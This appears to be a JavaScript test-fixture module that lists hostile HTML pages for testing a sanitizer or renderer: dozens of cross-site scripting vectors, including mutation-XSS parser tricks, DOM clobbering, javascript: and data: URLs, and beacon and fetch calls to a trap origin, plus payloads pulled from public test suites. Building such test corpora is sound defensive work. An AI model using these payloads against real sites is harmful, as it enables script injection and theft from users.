// Hostile pages: vectors of our own and of public packages. A script of theirs that runs calls `pwned` of the outermost window, and every
// address that they name leads to a trap.

import { readFileSync } from 'node:fs'
import { createRequire } from 'node:module'

const require = createRequire(import.meta.url)
const RUN = 'top.pwned()'

/** What a page can try by itself, without being touched. `trap` is an origin. */
export const own = (trap) => [
  `<script>${RUN}</script>`,
  `<script src="${trap}/s.js"></script>`,
  `<script type=module>import '${trap}/m.js'; ${RUN}</script>`,
  `<script async src="${trap}/async.js"></script><link rel=modulepreload href="${trap}/preload.js">`,
  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${trap}/speculation"]}]}</script>`,
  `<script>fetch('${trap}/fetch');new Image().src='${trap}/image';navigator.sendBeacon('${trap}/beacon');${RUN}</script>`,
  `<script>open('${trap}/window');location='${trap}/location';top.location='${trap}/top';${RUN}</script>`,
  `<meta http-equiv=refresh content="0;url=${trap}/refresh">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=data:text/html,<script>${RUN}</script>">`,
  `<meta http-equiv=set-cookie content="a=b"><meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'"><script>${RUN}</script>`,
  `<base href="${trap}/" target=_top><img src=base.png><script src=base.js></script>`,
  `<base href="javascript:/"><a href="/*${RUN}/*/">x</a>`,
  `<body onload="${RUN}" onpageshow="${RUN}" onfocus="${RUN}" onresize="${RUN}" onscroll="${RUN}" onhashchange="${RUN}">`,
  `<img src=x onerror="${RUN}"><img src="${trap}/onload.png" onload="${RUN}">`,
  `<img srcset="${trap}/a.png 1x, ${trap}/b.png 2x" sizes=100vw><img loading=lazy src="${trap}/lazy.png">`,
  `<picture><source srcset="${trap}/source.webp"><img src="${trap}/img.png" lowsrc="${trap}/low.png" dynsrc="${trap}/dyn.avi"></picture>`,
  `<image src="${trap}/image.png" onerror="${RUN}">`,
  `<input type=image src="${trap}/input.png" onerror="${RUN}"><input autofocus onfocus="${RUN}">`,
  `<button autofocus onfocus="${RUN}" formaction="${trap}/formaction">x</button><details open ontoggle="${RUN}">x</details>`,
  `<form id=f action="${trap}/form" method=post target=_top><input name=a value=b><button>send</button></form><script>f.submit()</script>`,
  `<form><button formaction="javascript:${RUN}">x</button><input type=submit formaction="${trap}/submit" formtarget=_blank></form>`,
  `<isindex type=image src="${trap}/isindex.png" action="javascript:${RUN}" onerror="${RUN}">`,
  `<iframe src="${trap}/frame"></iframe><iframe src="javascript:${RUN}"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="data:text/html,<script>${RUN}</script>" onload="${RUN}" allow="*" csp=""></iframe>`,
  `<frameset onload="${RUN}"><frame src="${trap}/frameset"><frame src="javascript:${RUN}"></frameset>`,
  `<object data="${trap}/object" codebase="${trap}/" classid="${trap}/class"><param name=movie value="${trap}/movie"></object>`,
  `<object data="data:text/html,<script>${RUN}</script>" onerror="${RUN}"></object><embed src="${trap}/embed"><embed src="javascript:${RUN}">`,
  `<applet code=x codebase="${trap}/" archive="${trap}/applet.jar"></applet><portal src="${trap}/portal"></portal><fencedframe src="${trap}/f"></fencedframe>`,
  `<video autoplay src="${trap}/video.mp4" poster="${trap}/poster.png" onerror="${RUN}"><source src="${trap}/v2.mp4"><track default src="${trap}/t.vtt"></video>`,
  `<audio autoplay src="${trap}/audio.mp3" onerror="${RUN}"></audio><bgsound src="${trap}/sound.wav"><video onloadstart="${RUN}"><source></video>`,
  `<svg onload="${RUN}"><script>${RUN}</script><script href="${trap}/svg.js"/><image href="${trap}/svg.png" onerror="${RUN}"/></svg>`,
  `<svg><use href="${trap}/use.svg#x"/><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"/></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s /><set attributeName=href to="javascript:${RUN}"/><a><animate attributeName=href values="javascript:${RUN}"/><text y=20>x</text></a></svg>`,
  `<svg><foreignObject><iframe src="${trap}/foreign"></iframe><img src=x onerror="${RUN}"></foreignObject><feImage href="${trap}/fe.png"/></svg>`,
  `<svg><style>@import url(${trap}/svg.css);*{background:url(${trap}/svgbg.png)}</style><filter id=a><feImage xlink:href="${trap}/filter.png"/></filter></svg>`,
  `<math><mtext><script>${RUN}</script><img src=x onerror="${RUN}"></mtext><maction actiontype="statusline#${trap}" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math href="javascript:${RUN}"><annotation-xml encoding="text/html"><img src="${trap}/annotation.png" onerror="${RUN}"></annotation-xml></math>`,
  `<math><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"></mglyph></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}"></style></mglyph></form>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>"></style></svg>`,
  `<math><mi><table><mglyph><style><math href="</style><img src=x onerror=${RUN}>"></math></style></mglyph></table></mi></math>`,
  `<math><mi><table><mglyph><style><img src="${trap}/mutated.png" onerror="${RUN}"><a href="javascript:${RUN}">x<script>${RUN}`,
  `<svg><desc><table><mglyph><style><img src="${trap}/mutated2.png" onerror="${RUN}"><iframe src="${trap}/mutated3">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<noembed><p title="</noembed><img src=x onerror=${RUN}>"></noembed><noframes><p title="</noframes><img src=x onerror=${RUN}>"></noframes>`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea><xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<title>&lt;/title>&lt;script>${RUN}&lt;/script></title><textarea>&lt;/textarea>&lt;img src=x onerror=${RUN}></textarea>`,
  `<template><script>${RUN}</script><img src="${trap}/template.png"></template><div><template shadowrootmode=open><img src="${trap}/shadow.png" onerror="${RUN}"><style>@import "${trap}/shadow.css"</style></template></div>`,
  `<select><option><style></option></select><img src=x onerror="${RUN}"></style></select><listing>&lt;img src=x onerror=${RUN}></listing>`,
  `<!--><img src=x onerror="${RUN}">--><!--!><svg onload="${RUN}">--!><![CDATA[><img src=x onerror="${RUN}">]]><?x ><img src=x onerror="${RUN}">?>`,
  `<p title="&quot;&gt;&lt;img src=x onerror=${RUN}&gt;" class='"><script>${RUN}</script>' id="'><svg/onload=${RUN}>">x</p>`,
  `<x"y onclick="${RUN}"><img/src=x/onerror=${RUN}><svg/onload=${RUN}><img \nsrc=x\nonerror\n=\n"${RUN}"></x"y>`,
  `<link rel=stylesheet href="${trap}/sheet.css"><link rel="alternate stylesheet" href="${trap}/other.css"><link rel=stylesheet href="data:text/css,@import '${trap}/data.css'">`,
  `<link rel=preload as=image href="${trap}/preload.png"><link rel=prefetch href="${trap}/prefetch"><link rel=prerender href="${trap}/prerender"><link rel=preconnect href="${trap}"><link rel=dns-prefetch href="${trap}">`,
  `<link rel=icon href="${trap}/icon.png"><link rel=manifest href="${trap}/manifest.json"><link rel=import href="${trap}/import.html"><link rel=search href="${trap}/search.xml"><html manifest="${trap}/app.cache">`,
  `<style>@import "${trap}/import.css";@import url(${trap}/import2.css) screen;@import 'relative.css';</style>`,
  `<style>@font-face{font-family:f;src:url(${trap}/font.woff2)}*{font-family:f;background:url(${trap}/bg.png);list-style-image:url(${trap}/list.png);cursor:url(${trap}/cursor.cur),auto;content:url(${trap}/content.png);border-image:url(${trap}/border.png)}</style>text<ul><li>x</ul>`,
  `<style>a:visited{background:url(${trap}/visited)}p::before{content:url(${trap}/before.png)}body{background:image-set(url(${trap}/set.png) 1x);mask:url(${trap}/mask.svg#m);filter:url(${trap}/filter.svg#f)}</style><a href=${trap}>x</a><p>x</p>`,
  `<p style="background:url(${trap}/style.png);background:url('javascript:${RUN}');behavior:url(${trap}/b.htc);-moz-binding:url(${trap}/x.xml#x);width:expression(${RUN})">x</p>`,
  `<table background="${trap}/table.png"><tr background="${trap}/row.png"><td background="${trap}/cell.png">x</table><body background="${trap}/body.png">`,
  `<a href="${trap}/ping" ping="${trap}/ping2" onclick="${RUN}" target=_top>ping</a><a href="javascript:${RUN}">run</a><a href="&#106;avascript&colon;${RUN}">run</a><a href=" java\tscript:${RUN}">run</a>`,
  `<map name=m><area shape=default href="javascript:${RUN}" ping="${trap}/area"></map><img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width=300 height=300>`,
  `<a href="data:text/html,<script>${RUN}</script>" download>x</a><a href="vbscript:${RUN}">x</a><a href="blob:${trap}/x">x</a><q cite="${trap}/cite">x</q><blockquote cite="${trap}/c2">x</blockquote>`,
  `<dialog open onclose="${RUN}"><form method=dialog><button autofocus>x</button></form></dialog><div popover id=p onbeforetoggle="${RUN}">x</div><button popovertarget=p>x</button>`,
  `<marquee onstart="${RUN}" onfinish="${RUN}" loop=1>x</marquee><div contenteditable autofocus onfocus="${RUN}" accesskey=x tabindex=1 style="animation:a 1s" onanimationstart="${RUN}">x</div><style>@keyframes a{}</style>`,
  `<img name=createElement><img name=querySelectorAll><img name=head><form name=body></form><img name=documentElement id=documentElement><img name=elementFromPoint><img name=defaultView>`,
  `<form id=getAttribute><input name=getAttribute><input name=setAttribute><input id=hasAttribute><input name=getBoundingClientRect><input name=parentElement><input name=closest><input name=removeAttribute>clobbered</form>`,
  `<p id=app>not the app</p><p id=view>not the data</p><p id=announcer>x</p><dialog open>covers</dialog><div style="position:fixed;inset:0;z-index:2147483647;background:#fff">covers everything</div>`,
  `<p data-dh=1 data-dh-drop=hand>pretends to be a part</p><dh-t data-dh=2>x</dh-t><style>[data-dh-drop]{opacity:1!important}</style>`,
  `<plaintext><img src=x onerror="${RUN}">`,
  `\u202e<bdo dir=rtl>\u0000\ufffe<img src=x\u0000 onerror="${RUN}">`,
]

/** The vectors of public packages, with our address and our call. */
export function known(trap) {
  const seeds = readFileSync(new URL('node_modules/xss-filters/tests/fuzz/bin/seed.xss', import.meta.url), 'utf8').split('\n')
  const fixtures = require('dompurify/test/fixtures/expect.js').map((fixture) => fixture.payload)
  if (seeds.length < 100 || fixtures.length < 100) throw new Error('the packages no longer hold the vectors')
  const ours = (payload) => payload
    .replace(/\b(alert|prompt|confirm)\s*\(/g, 'top.pwned(')
    .replace(/(https?:)?\/\/(?!www\.w3\.org)[\w-]+(\.[\w-]+)+(:\d+)?/g, trap)
  return [...new Set([...fixtures, ...seeds].map(ours))].filter((payload) => payload.trim())
}
